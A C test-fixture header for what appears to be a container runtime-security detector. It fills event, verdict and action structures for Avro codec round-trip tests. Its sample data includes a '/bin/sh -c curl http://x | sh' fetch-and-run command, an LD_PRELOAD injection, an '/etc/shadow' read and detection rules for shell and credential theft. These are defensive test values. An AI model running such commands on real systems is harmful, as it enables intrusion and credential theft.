/* Shared by the codec tests: events/verdicts/action results with every field
 * set to a distinct value, field-by-field comparison, and conversion of the
 * same data to an avro-c generic value for the cross-checks. Test-only:
 * failures abort through cmocka assertions. */
#ifndef RAMPART_TEST_CODEC_FIXTURES_H
#define RAMPART_TEST_CODEC_FIXTURES_H

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <avro.h>
#include <cmocka.h>

#include "action.h"
#include "event.h"
#include "verdict.h"

static const struct rp_str fx_args[] = {RP_STR("/bin/sh"), RP_STR("-c"), RP_STR("curl http://x | sh"),
					RP_STR("")};
static const struct rp_str fx_env[] = {RP_STR("LD_PRELOAD=/tmp/x.so"), RP_STR("HTTP_PROXY=p:3128")};
static const struct rp_label fx_labels[] = {{RP_STR("app"), RP_STR("web")},
					    {RP_STR("tier"), RP_STR("front")},
					    {RP_STR("k8s.io/x"), RP_STR("")}};

/* variant selects enum symbols and union branches so that a loop over
 * variants covers them all. */
static inline void fx_event(struct rp_event *ev, unsigned variant)
{
	memset(ev, 0, sizeof(*ev));
	ev->node = RP_STR("node-1");
	ev->cluster = RP_STR("prod-eu");
	ev->orchestrator = (enum rp_orchestrator)(variant % RP_ORCH__COUNT);
	ev->boot_id = RP_STR("4f9c1d2e-boot");
	ev->sequence = 1234567890123LL + variant;
	ev->time_ns = -1700000000000000000LL;
	ev->type = (enum rp_event_type)(variant % RP_EV__COUNT);
	ev->syscall = RP_STR("execve");
	ev->result = -13;
	ev->container = (struct rp_container){RP_STR("c0ffee"), RP_STR("web"), RP_STR("nginx:1.25"),
					      RP_STR("sha256:abc"), variant & 1, RP_STR("containerd"),
					      RP_STR("/kubepods/besteffort/podu1/c0ffee")};
	ev->workload_kind = (enum rp_workload_kind)(variant % RP_WORKLOAD__COUNT);
	if (ev->workload_kind == RP_WORKLOAD_POD)
		ev->workload.pod = (struct rp_pod){RP_STR("default"), RP_STR("web-7d9"), RP_STR("uid-1"),
						   fx_labels, 3, RP_STR("ReplicaSet"), RP_STR("web-7"),
						   RP_STR("sa-web")};
	else if (ev->workload_kind == RP_WORKLOAD_ECS_TASK)
		ev->workload.ecs = (struct rp_ecs_task){RP_STR("ecs-1"), RP_STR("arn:aws:ecs:task/1"),
							RP_STR("fam"), RP_STR("7"), RP_STR("svc")};
	struct rp_process *p = &ev->process;
	p->pid = 4242; p->tid = 4243; p->ppid = 1; p->uid = 1000; p->gid = 1001;
	p->euid = 0; p->egid = -2; p->loginuid = 4294967295LL;
	p->comm = RP_STR("sh"); p->exe = RP_STR("/usr/bin/dash");
	p->args = fx_args; p->nargs = 4; p->args_truncated = (variant & 2) != 0;
	p->env = fx_env; p->nenv = 2; p->cwd = RP_STR("/srv");
	p->tty = 34816; p->start_time_ns = 1699999999000000000LL; p->cap_effective = 0x1ffffffffffLL;
	p->exe_upper_layer = true; p->exe_from_memfd = (variant & 1) != 0; p->exe_writable = true;
	p->parent_comm = RP_STR("nginx"); p->parent_exe = RP_STR("/usr/sbin/nginx");
	p->gparent_comm = RP_STR("containerd-shim"); p->gparent_exe = RP_STR("/usr/bin/shim");
	ev->args_kind = (enum rp_args_kind)(variant % RP_ARGS__COUNT);
	switch (ev->args_kind) {
	case RP_ARGS_FILE:
		ev->args.file = (struct rp_file_args){RP_STR("/etc/shadow"), RP_STR("/tmp/t"), 3, 0x80241,
						      0644, 0, -1, RP_STR("security.capability"), 99};
		break;
	case RP_ARGS_NET:
		ev->args.net = (struct rp_net_args){5, 10, 1, 6, RP_STR("::1"), 40000, RP_STR("10.0.0.1"),
						    443, 2};
		break;
	case RP_ARGS_PROC:
		ev->args.proc = (struct rp_proc_args){77, 16, 9, 137, 0, 0, -5000000000LL};
		break;
	case RP_ARGS_NS:
		ev->args.ns = (struct rp_ns_args){0x20000000, 7, RP_STR("/dev/sda1"), RP_STR("/mnt"),
						  RP_STR("ext4"), 0x1000};
		break;
	case RP_ARGS_KERNEL:
		ev->args.kernel = (struct rp_kernel_args){RP_STR("rootkit"), 5, 2, 0x10};
		break;
	default:
		break;
	}
}

static const struct rp_rule_match fx_matches[] = {
	{RP_STR("R1"), RP_STR("Shell in container"), RP_STR("T1059.004"), RP_STR("TA0002"),
	 RP_SEV_HIGH, RP_STR("base"), RP_ACTION_ISOLATE, RP_STR("sh ran in web")},
	{RP_STR("R2"), RP_STR("Shadow read"), RP_STR("T1003.008"), RP_STR("TA0006"), RP_SEV_CRITICAL,
	 RP_STR(""), RP_ACTION_TERMINATE, RP_STR("")},
};

static inline void fx_verdict(struct rp_verdict *v, unsigned variant)
{
	memset(v, 0, sizeof(*v));
	v->verdict_id = RP_STR("node-1/boot/42");
	v->time_ns = 1700000000123456789LL;
	v->workload_id = RP_STR("uid-1");
	fx_event(&v->event, variant);
	v->matches = fx_matches;
	v->nmatches = variant % 3 == 0 ? 0 : 2;
	v->policy = RP_STR("strict");
	v->requested_action = (enum rp_action)(variant % RP_ACTION__COUNT);
	v->effective_action = (enum rp_action)((variant + 1) % RP_ACTION__COUNT);
	v->reason = RP_STR("ecs cannot isolate");
}

static inline void fx_action(struct rp_action_result *a, unsigned variant)
{
	memset(a, 0, sizeof(*a));
	a->verdict_id = RP_STR("node-1/boot/42");
	a->workload_id = RP_STR("uid-1");
	a->driver = RP_STR("kubernetes");
	a->action = (enum rp_action)(variant % RP_ACTION__COUNT);
	a->target = RP_STR("default/web-7d9");
	a->outcome = (enum rp_outcome)(variant % RP_OUTCOME__COUNT);
	a->detail = RP_STR("NetworkPolicy applied");
	a->actor = RP_STR("system:serviceaccount:rampart:actuator");
	a->attempts = 3 + (int32_t)variant;
	a->time_ns = 1700000000999LL;
}

/* ---- comparison ---- */

#define fx_str_eq(a, b)                                              \
	do {                                                         \
		assert_int_equal((a).len, (b).len);                  \
		if ((a).len)                                         \
			assert_memory_equal((a).ptr, (b).ptr, (a).len); \
	} while (0)

static inline void fx_process_eq(const struct rp_process *a, const struct rp_process *b)
{
	assert_int_equal(a->pid, b->pid); assert_int_equal(a->tid, b->tid);
	assert_int_equal(a->ppid, b->ppid); assert_int_equal(a->uid, b->uid);
	assert_int_equal(a->gid, b->gid); assert_int_equal(a->euid, b->euid);
	assert_int_equal(a->egid, b->egid); assert_int_equal(a->loginuid, b->loginuid);
	fx_str_eq(a->comm, b->comm); fx_str_eq(a->exe, b->exe);
	assert_int_equal(a->nargs, b->nargs);
	for (uint32_t i = 0; i < a->nargs; i++)
		fx_str_eq(a->args[i], b->args[i]);
	assert_int_equal(a->args_truncated, b->args_truncated);
	assert_int_equal(a->nenv, b->nenv);
	for (uint32_t i = 0; i < a->nenv; i++)
		fx_str_eq(a->env[i], b->env[i]);
	fx_str_eq(a->cwd, b->cwd); assert_int_equal(a->tty, b->tty);
	assert_int_equal(a->start_time_ns, b->start_time_ns);
	assert_int_equal(a->cap_effective, b->cap_effective);
	assert_int_equal(a->exe_upper_layer, b->exe_upper_layer);
	assert_int_equal(a->exe_from_memfd, b->exe_from_memfd);
	assert_int_equal(a->exe_writable, b->exe_writable);
	fx_str_eq(a->parent_comm, b->parent_comm); fx_str_eq(a->parent_exe, b->parent_exe);
	fx_str_eq(a->gparent_comm, b->gparent_comm); fx_str_eq(a->gparent_exe, b->gparent_exe);
}

static inline void fx_workload_eq(const struct rp_event *a, const struct rp_event *b)
{
	assert_int_equal(a->workload_kind, b->workload_kind);
	if (a->workload_kind == RP_WORKLOAD_POD) {
		const struct rp_pod *x = &a->workload.pod, *y = &b->workload.pod;
		fx_str_eq(x->namespace_, y->namespace_); fx_str_eq(x->name, y->name);
		fx_str_eq(x->uid, y->uid); assert_int_equal(x->nlabels, y->nlabels);
		for (uint32_t i = 0; i < x->nlabels; i++) {
			fx_str_eq(x->labels[i].key, y->labels[i].key);
			fx_str_eq(x->labels[i].value, y->labels[i].value);
		}
		fx_str_eq(x->owner_kind, y->owner_kind); fx_str_eq(x->owner_name, y->owner_name);
		fx_str_eq(x->service_account, y->service_account);
	} else if (a->workload_kind == RP_WORKLOAD_ECS_TASK) {
		const struct rp_ecs_task *x = &a->workload.ecs, *y = &b->workload.ecs;
		fx_str_eq(x->cluster, y->cluster); fx_str_eq(x->task_arn, y->task_arn);
		fx_str_eq(x->family, y->family); fx_str_eq(x->revision, y->revision);
		fx_str_eq(x->service, y->service);
	}
}

static inline void fx_args_eq(const struct rp_event *a, const struct rp_event *b)
{
	assert_int_equal(a->args_kind, b->args_kind);
	switch (a->args_kind) {
	case RP_ARGS_FILE: {
		const struct rp_file_args *x = &a->args.file, *y = &b->args.file;
		fx_str_eq(x->path, y->path); fx_str_eq(x->target, y->target);
		assert_int_equal(x->fd, y->fd); assert_int_equal(x->flags, y->flags);
		assert_int_equal(x->mode, y->mode); assert_int_equal(x->uid, y->uid);
		assert_int_equal(x->gid, y->gid); fx_str_eq(x->xattr, y->xattr);
		assert_int_equal(x->length, y->length);
		break;
	}
	case RP_ARGS_NET: {
		const struct rp_net_args *x = &a->args.net, *y = &b->args.net;
		assert_int_equal(x->fd, y->fd); assert_int_equal(x->family, y->family);
		assert_int_equal(x->socktype, y->socktype); assert_int_equal(x->protocol, y->protocol);
		fx_str_eq(x->local_addr, y->local_addr); assert_int_equal(x->local_port, y->local_port);
		fx_str_eq(x->remote_addr, y->remote_addr);
		assert_int_equal(x->remote_port, y->remote_port); assert_int_equal(x->newfd, y->newfd);
		break;
	}
	case RP_ARGS_PROC: {
		const struct rp_proc_args *x = &a->args.proc, *y = &b->args.proc;
		assert_int_equal(x->target_pid, y->target_pid); assert_int_equal(x->request, y->request);
		assert_int_equal(x->signal, y->signal); assert_int_equal(x->exit_code, y->exit_code);
		assert_int_equal(x->new_uid, y->new_uid); assert_int_equal(x->new_gid, y->new_gid);
		assert_int_equal(x->value, y->value);
		break;
	}
	case RP_ARGS_NS: {
		const struct rp_ns_args *x = &a->args.ns, *y = &b->args.ns;
		assert_int_equal(x->ns_flags, y->ns_flags); assert_int_equal(x->fd, y->fd);
		fx_str_eq(x->source, y->source); fx_str_eq(x->target, y->target);
		fx_str_eq(x->fstype, y->fstype); assert_int_equal(x->flags, y->flags);
		break;
	}
	case RP_ARGS_KERNEL: {
		const struct rp_kernel_args *x = &a->args.kernel, *y = &b->args.kernel;
		fx_str_eq(x->name, y->name); assert_int_equal(x->command, y->command);
		assert_int_equal(x->prog_type, y->prog_type); assert_int_equal(x->flags, y->flags);
		break;
	}
	default:
		break;
	}
}

static inline void fx_event_eq(const struct rp_event *a, const struct rp_event *b)
{
	fx_str_eq(a->node, b->node); fx_str_eq(a->cluster, b->cluster);
	assert_int_equal(a->orchestrator, b->orchestrator); fx_str_eq(a->boot_id, b->boot_id);
	assert_int_equal(a->sequence, b->sequence); assert_int_equal(a->time_ns, b->time_ns);
	assert_int_equal(a->type, b->type); fx_str_eq(a->syscall, b->syscall);
	assert_int_equal(a->result, b->result);
	fx_str_eq(a->container.id, b->container.id); fx_str_eq(a->container.name, b->container.name);
	fx_str_eq(a->container.image, b->container.image);
	fx_str_eq(a->container.image_digest, b->container.image_digest);
	assert_int_equal(a->container.privileged, b->container.privileged);
	fx_str_eq(a->container.runtime, b->container.runtime);
	fx_str_eq(a->container.cgroup, b->container.cgroup);
	fx_workload_eq(a, b);
	fx_process_eq(&a->process, &b->process);
	fx_args_eq(a, b);
}

static inline void fx_verdict_eq(const struct rp_verdict *a, const struct rp_verdict *b)
{
	fx_str_eq(a->verdict_id, b->verdict_id); assert_int_equal(a->time_ns, b->time_ns);
	fx_str_eq(a->workload_id, b->workload_id); fx_event_eq(&a->event, &b->event);
	assert_int_equal(a->nmatches, b->nmatches);
	for (uint32_t i = 0; i < a->nmatches; i++) {
		const struct rp_rule_match *x = &a->matches[i], *y = &b->matches[i];
		fx_str_eq(x->rule_id, y->rule_id); fx_str_eq(x->rule_name, y->rule_name);
		fx_str_eq(x->technique, y->technique); fx_str_eq(x->tactic, y->tactic);
		assert_int_equal(x->severity, y->severity); fx_str_eq(x->ruleset, y->ruleset);
		assert_int_equal(x->action, y->action); fx_str_eq(x->output, y->output);
	}
	fx_str_eq(a->policy, b->policy);
	assert_int_equal(a->requested_action, b->requested_action);
	assert_int_equal(a->effective_action, b->effective_action);
	fx_str_eq(a->reason, b->reason);
}

static inline void fx_action_eq(const struct rp_action_result *a, const struct rp_action_result *b)
{
	fx_str_eq(a->verdict_id, b->verdict_id); fx_str_eq(a->workload_id, b->workload_id);
	fx_str_eq(a->driver, b->driver); assert_int_equal(a->action, b->action);
	fx_str_eq(a->target, b->target); assert_int_equal(a->outcome, b->outcome);
	fx_str_eq(a->detail, b->detail); fx_str_eq(a->actor, b->actor);
	assert_int_equal(a->attempts, b->attempts); assert_int_equal(a->time_ns, b->time_ns);
}

/* ---- the same data as an avro-c generic value ---- */

static inline avro_value_t fx_field(avro_value_t *rec, const char *name)
{
	avro_value_t f = {0};

	if (avro_value_get_by_name(rec, name, &f, NULL))
		fail_msg("no field %s: %s", name, avro_strerror());
	return f;
}

static inline void fx_set_rawstr(avro_value_t *v, struct rp_str s)
{
	char tmp[512];

	assert_true(s.len < sizeof(tmp));
	memcpy(tmp, s.ptr ? s.ptr : "", s.len);
	tmp[s.len] = '\0';
	assert_int_equal(avro_value_set_string_len(v, tmp, s.len + 1), 0);
}

static inline void fx_set_str(avro_value_t *rec, const char *name, struct rp_str s)
{
	avro_value_t f = fx_field(rec, name);
	fx_set_rawstr(&f, s);
}

static inline void fx_set_long(avro_value_t *rec, const char *name, int64_t x)
{
	avro_value_t f = fx_field(rec, name);
	assert_int_equal(avro_value_set_long(&f, x), 0);
}

static inline void fx_set_int(avro_value_t *rec, const char *name, int32_t x)
{
	avro_value_t f = fx_field(rec, name);
	assert_int_equal(avro_value_set_int(&f, x), 0);
}

static inline void fx_set_bool(avro_value_t *rec, const char *name, bool x)
{
	avro_value_t f = fx_field(rec, name);
	assert_int_equal(avro_value_set_boolean(&f, x), 0);
}

static inline void fx_set_enum(avro_value_t *rec, const char *name, int x)
{
	avro_value_t f = fx_field(rec, name);
	assert_int_equal(avro_value_set_enum(&f, x), 0);
}

static inline void fx_append_strs(avro_value_t *rec, const char *name, const struct rp_str *s, uint32_t n)
{
	avro_value_t arr = fx_field(rec, name), e;

	for (uint32_t i = 0; i < n; i++) {
		assert_int_equal(avro_value_append(&arr, &e, NULL), 0);
		fx_set_rawstr(&e, s[i]);
	}
}

static inline avro_value_t fx_branch(avro_value_t *rec, const char *name, int d)
{
	avro_value_t u = fx_field(rec, name), b = {0};

	assert_int_equal(avro_value_set_branch(&u, d, &b), 0);
	return b;
}

/* Fields absent from rec's schema are skipped, so this also fills values of
 * an older schema (tests/data/event.v0.avsc). */
#define FX_HAS(rec, name) (avro_value_get_by_name((rec), (name), &(avro_value_t){0}, NULL) == 0)

static inline void fx_avro_workload(avro_value_t *ev, const struct rp_event *e)
{
	avro_value_t w = fx_branch(ev, "workload", (int)e->workload_kind), m, x;

	if (e->workload_kind == RP_WORKLOAD_POD) {
		const struct rp_pod *p = &e->workload.pod;
		fx_set_str(&w, "namespace", p->namespace_); fx_set_str(&w, "name", p->name);
		fx_set_str(&w, "uid", p->uid);
		m = fx_field(&w, "labels");
		for (uint32_t i = 0; i < p->nlabels; i++) {
			char key[128];
			snprintf(key, sizeof(key), "%.*s", (int)p->labels[i].key.len, p->labels[i].key.ptr);
			assert_int_equal(avro_value_add(&m, key, &x, NULL, NULL), 0);
			fx_set_rawstr(&x, p->labels[i].value);
		}
		fx_set_str(&w, "owner_kind", p->owner_kind); fx_set_str(&w, "owner_name", p->owner_name);
		fx_set_str(&w, "service_account", p->service_account);
	} else if (e->workload_kind == RP_WORKLOAD_ECS_TASK) {
		const struct rp_ecs_task *t = &e->workload.ecs;
		fx_set_str(&w, "cluster", t->cluster); fx_set_str(&w, "task_arn", t->task_arn);
		fx_set_str(&w, "family", t->family); fx_set_str(&w, "revision", t->revision);
		fx_set_str(&w, "service", t->service);
	}
}

static inline void fx_avro_process(avro_value_t *ev, const struct rp_process *p)
{
	avro_value_t r = fx_field(ev, "process");

	fx_set_int(&r, "pid", p->pid); fx_set_int(&r, "tid", p->tid); fx_set_int(&r, "ppid", p->ppid);
	fx_set_int(&r, "uid", p->uid); fx_set_int(&r, "gid", p->gid); fx_set_int(&r, "euid", p->euid);
	fx_set_int(&r, "egid", p->egid);
	if (FX_HAS(&r, "loginuid"))
		fx_set_long(&r, "loginuid", p->loginuid);
	fx_set_str(&r, "comm", p->comm); fx_set_str(&r, "exe", p->exe);
	fx_append_strs(&r, "args", p->args, p->nargs);
	fx_set_bool(&r, "args_truncated", p->args_truncated);
	if (FX_HAS(&r, "env"))
		fx_append_strs(&r, "env", p->env, p->nenv);
	fx_set_str(&r, "cwd", p->cwd); fx_set_int(&r, "tty", p->tty);
	fx_set_long(&r, "start_time_ns", p->start_time_ns);
	fx_set_long(&r, "cap_effective", p->cap_effective);
	fx_set_bool(&r, "exe_upper_layer", p->exe_upper_layer);
	fx_set_bool(&r, "exe_from_memfd", p->exe_from_memfd);
	fx_set_bool(&r, "exe_writable", p->exe_writable);
	fx_set_str(&r, "parent_comm", p->parent_comm); fx_set_str(&r, "parent_exe", p->parent_exe);
	fx_set_str(&r, "gparent_comm", p->gparent_comm); fx_set_str(&r, "gparent_exe", p->gparent_exe);
}

static inline void fx_avro_args(avro_value_t *ev, const struct rp_event *e)
{
	avro_value_t a = fx_branch(ev, "args", (int)e->args_kind);

	switch (e->args_kind) {
	case RP_ARGS_FILE: {
		const struct rp_file_args *x = &e->args.file;
		fx_set_str(&a, "path", x->path); fx_set_str(&a, "target", x->target);
		fx_set_int(&a, "fd", x->fd); fx_set_long(&a, "flags", x->flags);
		fx_set_int(&a, "mode", x->mode); fx_set_int(&a, "uid", x->uid);
		fx_set_int(&a, "gid", x->gid);
		if (FX_HAS(&a, "xattr")) {
			fx_set_str(&a, "xattr", x->xattr); fx_set_long(&a, "length", x->length);
		}
		break;
	}
	case RP_ARGS_NET: {
		const struct rp_net_args *x = &e->args.net;
		fx_set_int(&a, "fd", x->fd); fx_set_int(&a, "family", x->family);
		fx_set_int(&a, "socktype", x->socktype); fx_set_int(&a, "protocol", x->protocol);
		fx_set_str(&a, "local_addr", x->local_addr); fx_set_int(&a, "local_port", x->local_port);
		fx_set_str(&a, "remote_addr", x->remote_addr);
		fx_set_int(&a, "remote_port", x->remote_port); fx_set_int(&a, "newfd", x->newfd);
		break;
	}
	case RP_ARGS_PROC: {
		const struct rp_proc_args *x = &e->args.proc;
		fx_set_int(&a, "target_pid", x->target_pid); fx_set_long(&a, "request", x->request);
		fx_set_int(&a, "signal", x->signal); fx_set_int(&a, "exit_code", x->exit_code);
		fx_set_int(&a, "new_uid", x->new_uid); fx_set_int(&a, "new_gid", x->new_gid);
		fx_set_long(&a, "value", x->value);
		break;
	}
	case RP_ARGS_NS: {
		const struct rp_ns_args *x = &e->args.ns;
		fx_set_long(&a, "ns_flags", x->ns_flags); fx_set_int(&a, "fd", x->fd);
		fx_set_str(&a, "source", x->source); fx_set_str(&a, "target", x->target);
		fx_set_str(&a, "fstype", x->fstype); fx_set_long(&a, "flags", x->flags);
		break;
	}
	case RP_ARGS_KERNEL: {
		const struct rp_kernel_args *x = &e->args.kernel;
		fx_set_str(&a, "name", x->name); fx_set_int(&a, "command", x->command);
		fx_set_int(&a, "prog_type", x->prog_type); fx_set_long(&a, "flags", x->flags);
		break;
	}
	default:
		break;
	}
}

static inline void fx_avro_event(avro_value_t *v, const struct rp_event *e)
{
	avro_value_t c = fx_field(v, "container");

	fx_set_str(v, "node", e->node); fx_set_str(v, "cluster", e->cluster);
	fx_set_enum(v, "orchestrator", (int)e->orchestrator);
	if (FX_HAS(v, "boot_id"))
		fx_set_str(v, "boot_id", e->boot_id);
	fx_set_long(v, "sequence", e->sequence); fx_set_long(v, "time_ns", e->time_ns);
	fx_set_enum(v, "type", (int)e->type); fx_set_str(v, "syscall", e->syscall);
	fx_set_long(v, "result", e->result);
	fx_set_str(&c, "id", e->container.id); fx_set_str(&c, "name", e->container.name);
	fx_set_str(&c, "image", e->container.image);
	fx_set_str(&c, "image_digest", e->container.image_digest);
	fx_set_bool(&c, "privileged", e->container.privileged);
	if (FX_HAS(&c, "runtime"))
		fx_set_str(&c, "runtime", e->container.runtime);
	if (FX_HAS(&c, "cgroup"))
		fx_set_str(&c, "cgroup", e->container.cgroup);
	fx_avro_workload(v, e);
	fx_avro_process(v, &e->process);
	fx_avro_args(v, e);
}

static inline void fx_avro_verdict(avro_value_t *v, const struct rp_verdict *x)
{
	avro_value_t ev = fx_field(v, "event"), arr = fx_field(v, "matches"), m;

	fx_set_str(v, "verdict_id", x->verdict_id); fx_set_long(v, "time_ns", x->time_ns);
	fx_set_str(v, "workload_id", x->workload_id);
	fx_avro_event(&ev, &x->event);
	for (uint32_t i = 0; i < x->nmatches; i++) {
		const struct rp_rule_match *r = &x->matches[i];
		assert_int_equal(avro_value_append(&arr, &m, NULL), 0);
		fx_set_str(&m, "rule_id", r->rule_id); fx_set_str(&m, "rule_name", r->rule_name);
		fx_set_str(&m, "technique", r->technique); fx_set_str(&m, "tactic", r->tactic);
		fx_set_enum(&m, "severity", (int)r->severity); fx_set_str(&m, "ruleset", r->ruleset);
		fx_set_enum(&m, "action", (int)r->action); fx_set_str(&m, "output", r->output);
	}
	fx_set_str(v, "policy", x->policy);
	fx_set_enum(v, "requested_action", (int)x->requested_action);
	fx_set_enum(v, "effective_action", (int)x->effective_action);
	fx_set_str(v, "reason", x->reason);
}

static inline void fx_avro_action(avro_value_t *v, const struct rp_action_result *a)
{
	fx_set_str(v, "verdict_id", a->verdict_id); fx_set_str(v, "workload_id", a->workload_id);
	fx_set_str(v, "driver", a->driver); fx_set_enum(v, "action", (int)a->action);
	fx_set_str(v, "target", a->target); fx_set_enum(v, "outcome", (int)a->outcome);
	fx_set_str(v, "detail", a->detail); fx_set_str(v, "actor", a->actor);
	fx_set_int(v, "attempts", a->attempts); fx_set_long(v, "time_ns", a->time_ns);
}

/* ---- avro-c generic value of a schema ---- */

struct fx_avro {
	avro_schema_t schema;
	avro_value_iface_t *iface;
	avro_value_t value;
};

static inline void fx_avro_init(struct fx_avro *a, const char *json, size_t len)
{
	if (avro_schema_from_json_length(json, len, &a->schema))
		fail_msg("avro-c rejects schema: %s", avro_strerror());
	a->iface = avro_generic_class_from_schema(a->schema);
	assert_non_null(a->iface);
	assert_int_equal(avro_generic_value_new(a->iface, &a->value), 0);
}

static inline void fx_avro_free(struct fx_avro *a)
{
	avro_value_decref(&a->value);
	avro_value_iface_decref(a->iface);
	avro_schema_decref(a->schema);
}

/* avro_value_write of a->value into out; returns the size. */
static inline size_t fx_avro_write(struct fx_avro *a, uint8_t *out, size_t cap)
{
	avro_writer_t w = avro_writer_memory((char *)out, (int64_t)cap);
	size_t n;

	assert_non_null(w);
	if (avro_value_write(w, &a->value))
		fail_msg("avro_value_write: %s", avro_strerror());
	n = (size_t)avro_writer_tell(w);
	avro_writer_free(w);
	return n;
}

/* avro_value_read of p[0..n) into a fresh value of a's schema (into *out). */
static inline void fx_avro_read(struct fx_avro *a, const uint8_t *p, size_t n, avro_value_t *out)
{
	avro_reader_t r = avro_reader_memory((const char *)p, (int64_t)n);

	assert_int_equal(avro_generic_value_new(a->iface, out), 0);
	if (avro_value_read(r, out))
		fail_msg("avro_value_read: %s", avro_strerror());
	avro_reader_free(r);
	size_t used;
	assert_int_equal(avro_value_sizeof(out, &used), 0);
	assert_int_equal(used, n); /* read it all */
}

#endif
